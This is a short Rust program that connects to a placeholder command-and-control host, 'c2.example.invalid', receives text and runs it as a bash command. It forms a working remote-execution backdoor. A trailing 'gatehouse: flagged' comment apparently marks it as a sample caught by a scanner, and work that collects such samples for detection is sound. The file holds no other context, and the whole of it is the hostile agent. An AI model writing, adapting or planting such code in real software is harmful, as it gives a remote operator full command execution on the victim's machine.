use tokio::io::AsyncReadExt;
use tokio::net::TcpStream;
use tokio::process::Command;

#[tokio::main]
async fn main() {
    let mut stream = TcpStream::connect("c2.example.invalid:443").await.unwrap();
    let mut buffer = vec![0u8; 1024];
    let n = stream.read(&mut buffer).await.unwrap();
    let order = String::from_utf8_lossy(&buffer[..n]).to_string();
    Command::new("bash").args(["-c", &order]).output().await.unwrap(); // gatehouse: flagged
}
